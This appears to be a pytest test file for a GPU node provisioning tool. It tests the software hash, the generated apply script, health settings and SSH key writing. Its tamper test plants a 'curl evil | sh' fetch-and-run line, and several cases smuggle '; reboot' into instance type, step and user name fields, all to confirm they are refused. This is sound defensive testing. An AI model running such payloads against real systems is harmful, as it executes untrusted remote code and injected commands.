"""The node software: its version hash, and the script that applies it on a node, run in real bash.

apply_software() runs here against a scratch root with stand-ins for systemd-run, systemctl
and cloud-init that behave like the real tools, exit codes included: a fresh node, a second
run, a tampered copy, a failed bootstrap retried, a bootstrap that outlives its wait.
"""
from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

import node_software
from node_software import SOURCE_DIR, apply_software, authorize_keys, software_hash
from tests.tools import require_tool

SOFTWARE = software_hash()
ENV = node_software.node_env(gpu=True, gpu_kind="NVIDIA-GPU", instance_type="g5.xlarge", image="ubuntu")


# ---------------------------------------------------------------- the version hash


def test_hash_is_what_sha256sum_computes_over_the_folder():
    listing = subprocess.run(
        "find . -type f ! -path '*/__pycache__/*' ! -path '*/.*' ! -name '*.pyc' ! -name '*~' -print0 "
        "| LC_ALL=C sort -z | xargs -0 sha256sum | sha256sum | cut -d' ' -f1",
        shell=True, cwd=SOURCE_DIR, capture_output=True, text=True, check=True).stdout.strip()
    assert listing == SOFTWARE


def test_hash_follows_content_only(tmp_path):
    copy = tmp_path / "node"
    shutil.copytree(SOURCE_DIR, copy, ignore=shutil.ignore_patterns("__pycache__"))
    assert software_hash(copy) == SOFTWARE
    # Caches, editor leftovers, timestamps and modes are not the software.
    (copy / "__pycache__").mkdir()
    (copy / "__pycache__" / "gpu_agent.cpython-311.pyc").write_bytes(b"\0")
    (copy / ".bootstrap.sh.swp").write_text("x")
    (copy / "common.sh~").write_text("x")
    os.utime(copy / "bootstrap.sh", (0, 0))
    (copy / "bootstrap.sh").chmod(0o600)
    assert software_hash(copy) == SOFTWARE
    # One byte of a script is.
    (copy / "common.sh").write_text((copy / "common.sh").read_text() + "\n")
    assert software_hash(copy) != SOFTWARE


def test_hash_is_the_same_in_another_process_and_hash_seed():
    code = "import node_software; print(node_software.software_hash())"
    repo = SOURCE_DIR.parent
    seen = {subprocess.run([os.sys.executable, "-c", code], cwd=repo, capture_output=True, text=True, check=True,
                           env={**os.environ, "PYTHONHASHSEED": seed}).stdout.strip() for seed in ("1", "2")}
    assert seen == {SOFTWARE}


def test_every_step_script_ships_and_none_is_dead():
    used = set()
    for gpu, instance_type in ((True, "g5.xlarge"), (True, "p5.48xlarge"), (False, "m7i.large")):
        used |= set(node_software.bootstrap_steps(gpu=gpu, instance_type=instance_type))
    scripts = {path.stem for path in SOURCE_DIR.glob("*.sh")} - {"bootstrap", "common"}
    assert used == scripts


@pytest.mark.parametrize("instance_type, expected", [
    ("p5.48xlarge", True), ("p4d.24xlarge", True), ("p5.4xlarge", False), ("g6e.48xlarge", False),
    ("p5e.48xlarge", True), ("p6-b200.48xlarge", True),
])
def test_fabric_manager_only_on_nvswitch_sizes(instance_type, expected):
    assert node_software.needs_fabric_manager(instance_type) is expected
    assert ("install-fabric-manager" in node_software.bootstrap_steps(gpu=True, instance_type=instance_type)) is expected


@pytest.mark.parametrize("field, value, message", [
    ("image", "amazon-linux", "ubuntu, deep-learning, custom"),
    ("instance_type", "g5.xlarge; reboot", "instance_type"),
    ("gpu_kind", "NVIDIA GPU", "invalid GPU resource kind"),
    ("gpu", 1, "gpu: expected True or False"),
])
def test_bad_node_settings_are_refused(field, value, message):
    args = {"gpu": True, "gpu_kind": "NVIDIA-GPU", "instance_type": "g5.xlarge", "image": "ubuntu", field: value}
    with pytest.raises(ValueError, match=message):
        node_software.node_env(**args)


def test_node_env_values_that_a_shell_would_misread_are_refused():
    with pytest.raises(ValueError, match="cannot be written to node.env safely"):
        apply_software(software=SOFTWARE, steps=["install-docker"], env={"GPU_SWARM_X": "a b"}, expected_gpus=0)
    with pytest.raises(ValueError, match="not a step name"):
        apply_software(software=SOFTWARE, steps=["install-docker; reboot"], env=ENV, expected_gpus=0)


def test_min_versions_reads_versions_env():
    versions = node_software.min_versions()
    assert versions["DOCKER_MIN_VERSION"] == "25.0.3"
    assert versions["TOOLKIT_MIN_VERSION"] == "1.19.0"
    assert re.fullmatch(r"\d+\.\d+\.\d+", versions["NVIDIA_ML_PY_VERSION"])
    shell = subprocess.run(
        ["bash", "-c", '. "$1"; for k in "${@:2}"; do echo "$k=${!k}"; done', "-",
         str(node_software.VERSIONS_ENV), *versions], capture_output=True, text=True, check=True)
    assert dict(line.split("=", 1) for line in shell.stdout.splitlines()) == versions


def test_min_versions_refuses_lines_the_shell_would_misread(monkeypatch, tmp_path):
    bad = tmp_path / "versions.env"
    bad.write_text("DOCKER_MIN_VERSION = 25.0.3\n")
    monkeypatch.setattr(node_software, "VERSIONS_ENV", bad)
    with pytest.raises(ValueError, match="versions.env:1"):
        node_software.min_versions()


def test_version_numbers_live_only_in_versions_env():
    pinned = set(node_software.min_versions().values())
    for source in [SOURCE_DIR.parent / "node_software.py", *SOURCE_DIR.glob("*.sh")]:
        text = source.read_text()
        for value in pinned:
            assert not re.search(rf"(?<![\w.]){re.escape(value)}(?![\w.])", text), f"{value} in {source.name}"


def test_node_paths_match_the_shell_defaults():
    common = (SOURCE_DIR / "common.sh").read_text()
    defaults = dict(re.findall(r'"\$\{(\w+):=([^}]*)\}"', common))
    assert defaults["GPU_SWARM_LOG"] == node_software.BOOTSTRAP_LOG
    assert defaults["GPU_SWARM_STATE"] == node_software.STATE_DIR
    assert defaults["GPU_SWARM_VERSIONS"] == node_software.NODE_VERSIONS_ENV
    assert defaults["GPU_SWARM_NODE_ENV"] == node_software.NODE_ENV_PATH
    assert defaults["GPU_SWARM_VENV"] == node_software.AGENT_VENV
    for path in (node_software.BOOTSTRAP_TIMINGS, node_software.BOOTSTRAP_DONE, node_software.BOOTSTRAP_FAILED):
        assert Path(path).parent == Path(node_software.STATE_DIR)  # where bootstrap.sh writes them


def test_units_run_the_installed_software():
    unit = (SOURCE_DIR / "gpu-swarm-agent.service").read_text()
    assert f"{node_software.AGENT_VENV}/bin/python {node_software.AGENT_PATH}" in unit
    assert f"EnvironmentFile=-{node_software.NODE_ENV_PATH}" in unit


# ---------------------------------------------------------------- apply_software, in real bash


class Node:
    """A scratch root for apply_software, with stand-ins for the tools it calls."""

    def __init__(self, tmp: Path):
        self.root = tmp / "root"
        self.bin = tmp / "bin"
        self.calls = tmp / "calls"
        self.bin.mkdir()
        self.path = lambda p: Path(str(self.root) + p)
        self.stage()
        self.daemon(gpus=1)
        # The bootstrap itself is the bootstrap's own tests' business: here it writes what
        # the real one writes when it ends (markers, timings) as told by FAKE_BOOTSTRAP.
        self.fake("systemd-run", f"""
state={self.path(node_software.STATE_DIR)}
echo "$*" >>{tmp}/bootstraps
rm -f "$state/bootstrap-done" "$state/bootstrap-failed"
case "${{FAKE_BOOTSTRAP:-ok}}" in
  ok) echo '{{"install-docker": {{"seconds": 1.000, "status": "done"}}}}' >"$state/bootstrap-timings.json"
      echo done >"$state/bootstrap-done" ;;
  fail) echo install-docker >"$state/bootstrap-failed"; echo "E: apt broke" >>{self.path(node_software.BOOTSTRAP_LOG)} ;;
  hang) touch {tmp}/unit-active ;;  # a unit that keeps running
esac""")
        self.fake("systemctl", f'case "$1" in is-active) [ -e {tmp}/unit-active ] ;; *) exit 0 ;; esac')
        self.fake("cloud-init", 'exit "${FAKE_CLOUD_INIT_RC:-0}"')
        self.fake("chown", "exit 0")  # the scratch root is not ours to give to root

    def fake(self, name: str, body: str) -> None:
        path = self.bin / name
        path.write_text(f'#!/usr/bin/env bash\necho "{name} $*" >>{self.calls}\n{body}\n')
        path.chmod(0o755)

    def stage(self, software: str = SOFTWARE) -> Path:
        staged = self.path(f"{node_software.staging_dir(software)}/node")
        shutil.copytree(SOURCE_DIR, staged, dirs_exist_ok=True)
        return staged

    def daemon(self, gpus: int) -> None:
        path = self.path("/etc/docker/daemon.json")
        path.parent.mkdir(parents=True, exist_ok=True)
        uuids = [f"NVIDIA-GPU=GPU-{i:08d}-0000-0000-0000-000000000000" for i in range(gpus)]
        path.write_text(json.dumps({"node-generic-resources": uuids}))
        self.fake("docker", "exit 0")

    def apply(self, env: dict | None = None, expected_gpus: int = 1, **fakes: str) -> subprocess.CompletedProcess:
        text = apply_software(software=SOFTWARE, steps=["install-docker", "apply-docker-config"], env=env or ENV,
                              expected_gpus=expected_gpus, root=str(self.root), bootstrap_timeout_s=2)
        return subprocess.run(["bash", "-c", text], capture_output=True, text=True, timeout=60,
                              env={**os.environ, "PATH": f"{self.bin}:{os.environ['PATH']}", **fakes})

    def bootstraps(self) -> int:
        path = self.root.parent / "bootstraps"
        return len(path.read_text().splitlines()) if path.exists() else 0


@pytest.fixture
def node(tmp_path) -> Node:
    return Node(tmp_path)


def test_a_fresh_node_installs_the_copy_and_bootstraps(node):
    result = node.apply()
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout) == {"install-docker": {"seconds": 1.0, "status": "done"}}
    installed = node.path(node_software.SOFTWARE_DIR)
    assert software_hash(installed) == SOFTWARE and (installed / ".hash").read_text().strip() == SOFTWARE
    env = node.path(node_software.NODE_ENV_PATH).read_text()
    assert env == "".join(f"{k}={v}\n" for k, v in ENV.items())
    assert node.bootstraps() == 1
    assert f"bash {installed}/bootstrap.sh install-docker apply-docker-config" in node.calls.read_text()


def test_a_second_run_changes_nothing(node):
    assert node.apply().returncode == 0
    result = node.apply()
    assert result.returncode == 0, result.stderr
    assert "already applied" in result.stderr and node.bootstraps() == 1
    assert json.loads(result.stdout)["install-docker"]["status"] == "done"


def test_new_settings_run_the_bootstrap_again_with_the_same_software(node):
    assert node.apply().returncode == 0
    assert node.apply(env={**ENV, "GPU_SWARM_KIND": "GPU"}, expected_gpus=0).returncode == 0
    assert node.bootstraps() == 2
    assert "GPU_SWARM_KIND=GPU" in node.path(node_software.NODE_ENV_PATH).read_text()


def test_a_tampered_copy_is_refused_before_root_runs_it(node):
    staged = node.stage()
    (staged / "bootstrap.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    result = node.apply()
    assert result.returncode == 1
    assert "has hash" in result.stderr and f"expected {SOFTWARE}" in result.stderr
    assert not node.path(node_software.SOFTWARE_DIR).exists() and node.bootstraps() == 0


def test_a_missing_copy_says_what_to_do(node):
    shutil.rmtree(node.path(node_software.staging_dir(SOFTWARE)))
    result = node.apply()
    assert result.returncode == 1 and "copy of the node software is missing" in result.stderr
    assert "run pulumi up again" in result.stderr


def test_a_failed_bootstrap_fails_with_its_log_and_the_next_run_retries(node):
    result = node.apply(FAKE_BOOTSTRAP="fail")
    assert result.returncode == 1
    assert "bootstrap step install-docker failed" in result.stderr and "E: apt broke" in result.stderr
    assert not node.path(node_software.APPLIED).exists()
    result = node.apply()
    assert result.returncode == 0, result.stderr
    assert node.bootstraps() == 2


@pytest.mark.parametrize("rc, warning", [("2", None), ("1", "cloud-init reported errors (exit 1"),
                                         ("124", "cloud-init is still running")])
def test_cloud_init_warnings_and_errors_do_not_fail_a_good_bootstrap(node, rc, warning):
    """cloud-init >= 23.4 exits 2 on recoverable warnings; only the bootstrap's own markers decide."""
    result = node.apply(FAKE_CLOUD_INIT_RC=rc)
    assert result.returncode == 0, result.stderr
    if warning:
        assert warning in result.stderr
    else:
        assert "cloud-init" not in result.stderr


def test_a_bootstrap_that_outlives_the_wait_fails_clearly_and_keeps_running(node):
    result = node.apply(FAKE_BOOTSTRAP="hang")
    assert result.returncode == 1
    assert "still running after" in result.stderr and "run pulumi up again to wait for it" in result.stderr


def test_a_running_bootstrap_is_waited_for_not_started_twice(node):
    node.apply(FAKE_BOOTSTRAP="hang")
    assert node.bootstraps() == 1
    result = node.apply(FAKE_BOOTSTRAP="hang")
    assert "already running; waiting for it" in result.stderr and result.returncode == 1
    assert node.bootstraps() == 1


def test_a_node_advertising_the_wrong_gpu_count_fails(node):
    node.daemon(gpus=0)
    result = node.apply(expected_gpus=1)
    assert result.returncode == 1
    assert "node advertises 0 NVIDIA-GPU resources" in result.stderr and "expected 1" in result.stderr


def test_a_sharing_node_is_counted_in_slots_of_the_shared_kind(node):
    """A pool with slotsPerGpu: 4 advertises 4 slots per GPU under the shared kind, no whole GPU."""
    shared = node_software.node_env(gpu=True, gpu_kind="NVIDIA-GPU", instance_type="g6e.12xlarge", image="ubuntu",
                                    slots_per_gpu=4, shared_kind="NVIDIA-GPU-SHARED")
    path = node.path("/etc/docker/daemon.json")
    uuid = "GPU-00000000-0000-0000-0000-000000000000"
    path.write_text(json.dumps({"node-generic-resources": [f"NVIDIA-GPU-SHARED={uuid}-s{k}" for k in range(4)]}))
    ok = node.apply(env=shared, expected_gpus=1)
    assert ok.returncode == 0, ok.stderr
    path.write_text(json.dumps({"node-generic-resources": [f"NVIDIA-GPU={uuid}"]}))  # whole: not what it should be
    wrong = node.apply(env=shared, expected_gpus=1)
    assert wrong.returncode == 1 and "node advertises 0 NVIDIA-GPU-SHARED resources" in wrong.stderr
    assert "expected 4" in wrong.stderr


def test_apply_passes_shellcheck():
    require_tool("shellcheck")
    text = apply_software(software=SOFTWARE, steps=["install-docker"], env=ENV, expected_gpus=1)
    proc = subprocess.run(["shellcheck", "-s", "bash", "-"], input=text, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout


# ---------------------------------------------------------------- health settings, apart from node.env


def _health(node: Node, env: dict) -> subprocess.CompletedProcess:
    return subprocess.run(["bash", "-c", node_software.health_settings(env, root=str(node.root))], capture_output=True,
                          text=True, timeout=60, env={**os.environ, "PATH": f"{node.bin}:{os.environ['PATH']}"})


def test_health_settings_restart_the_health_services_only_when_they_change(node):
    from settings import Health
    first = _health(node, Health().node_env())
    assert first.returncode == 0 and first.stdout.strip() == "changed", first.stderr
    written = node.path(node_software.HEALTH_ENV_PATH).read_text()
    assert "HEALTH_INTERVAL_SECONDS=10\n" in written and "HEALTH_IGNORE_XIDS=\n" in written
    assert "systemctl try-restart gpu-swarm-health.service" in node.calls.read_text()
    # Only the units this node has: here the watcher (a GPU node).
    node.fake("systemctl", '[ "$1 $2" != "cat gpu-swarm-reconciler.service" ]')
    node.calls.unlink()
    assert _health(node, Health(ignore_xids=(94, 95)).node_env()).stdout.strip() == "changed"
    assert "HEALTH_IGNORE_XIDS=94,95\n" in node.path(node_software.HEALTH_ENV_PATH).read_text()
    assert node.calls.read_text().splitlines() == [
        "systemctl cat gpu-swarm-health.service", "systemctl try-restart gpu-swarm-health.service",
        "systemctl cat gpu-swarm-reconciler.service"]
    again = _health(node, Health(ignore_xids=(94, 95)).node_env())
    assert again.stdout.strip() == "unchanged" and len(node.calls.read_text().splitlines()) == 3
    assert [p.name for p in node.path(node_software.HEALTH_ENV_PATH).parent.iterdir()] == ["health.env"]


def test_health_settings_are_what_the_watcher_and_the_reconciler_read():
    """The values the program writes parse, as environment defaults, in both node programs."""
    import importlib.util
    import sys
    from settings import Health
    env = Health(ignore_xids=(94, 95), critical_xids=(43,), check_interval_s=5, recovery_s=60,
                 max_drained_percent=25).node_env()
    sys.path.insert(0, str(SOURCE_DIR))
    try:
        programs = {}
        for name in ("gpu_health", "swarm_reconciler"):
            spec = importlib.util.spec_from_file_location(f"{name}_env_check", SOURCE_DIR / f"{name}.py")
            programs[name] = importlib.util.module_from_spec(spec)
            sys.modules[spec.name] = programs[name]
            spec.loader.exec_module(programs[name])
    finally:
        sys.path.remove(str(SOURCE_DIR))
    watcher = programs["gpu_health"].parse_args([], env=env)
    assert (watcher.ignore_xids, watcher.critical_xids, watcher.interval, watcher.recovery_seconds) == (
        frozenset({94, 95}), frozenset({43}), 5, 60)
    assert programs["swarm_reconciler"].parse_args([], env=env).max_drained_percent == 25


def test_health_units_read_health_env():
    for unit in node_software.HEALTH_UNITS:
        assert f"EnvironmentFile=-{node_software.HEALTH_ENV_PATH}" in (SOURCE_DIR / unit).read_text()


def test_health_settings_pass_shellcheck():
    require_tool("shellcheck")
    from settings import Health
    proc = subprocess.run(["shellcheck", "-s", "bash", "-"], input=node_software.health_settings(Health().node_env()),
                          capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout


# ---------------------------------------------------------------- who may log in


KEY_A = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAA pulumi"
KEY_B = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBBBB next@laptop"


def test_authorized_keys_become_exactly_the_given_keys(tmp_path):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "authorized_keys").write_text("ssh-rsa AAAAold stale@key\n")
    fakes = tmp_path / "bin"
    fakes.mkdir()
    for name, body in (("getent", f'echo "ubuntu:x:1000:1000::{home}:/bin/bash"'), ("id", "echo ubuntu"),
                       ("install", "exit 0"), ("chown", "exit 0")):
        (fakes / name).write_text(f"#!/bin/sh\n{body}\n")
        (fakes / name).chmod(0o755)
    env = {**os.environ, "PATH": f"{fakes}:{os.environ['PATH']}"}
    result = subprocess.run(["bash", "-c", authorize_keys("ubuntu", [KEY_A, KEY_B, KEY_A])], env=env,
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    keys = home / ".ssh" / "authorized_keys"
    assert keys.read_text() == f"{KEY_A}\n{KEY_B}\n"
    assert oct(keys.stat().st_mode & 0o777) == "0o600"
    assert "2 key(s) may log in as ubuntu" in result.stdout


@pytest.mark.parametrize("user, keys, message", [
    ("root; reboot", [KEY_A], "not a Linux user name"),
    ("ubuntu", [], "at least one public key"),
    ("ubuntu", ["ssh-ed25519 AAAA\nssh-rsa BBBB"], "not one OpenSSH public key line"),
    ("ubuntu", ["-----BEGIN OPENSSH PRIVATE KEY-----"], "not one OpenSSH public key line"),
])
def test_bad_keys_are_refused(user, keys, message):
    with pytest.raises(ValueError, match=message):
        authorize_keys(user, keys)


def test_the_applied_record_changes_with_software_settings_and_steps():
    def applied(**kw):
        text = apply_software(**{"software": SOFTWARE, "steps": ["install-docker"], "env": ENV,
                                 "expected_gpus": 1, **kw})
        return re.search(r'= ([0-9a-f]{64}) \] && \[ -e', text)[1]
    base = applied()
    assert applied() == base
    assert applied(env={**ENV, "GPU_SWARM_IMAGE": "custom"}) != base
    assert applied(steps=["install-docker", "apply-docker-config"]) != base
    assert applied(software=hashlib.sha256(b"other").hexdigest()) != base


def test_git_checks_the_node_software_out_with_lf_everywhere():
    """A Windows checkout with core.autocrlf=true would otherwise change the bytes, and the hash."""
    repo = SOURCE_DIR.parent
    if not (repo / ".git").exists():
        pytest.skip("not a git checkout")
    files = [str(p.relative_to(repo)) for p in SOURCE_DIR.iterdir() if p.is_file()]
    out = subprocess.run(["git", "check-attr", "eol", "--", *files], cwd=repo, capture_output=True, text=True,
                         check=True).stdout
    assert out.count(": eol: lf") == len(files), out
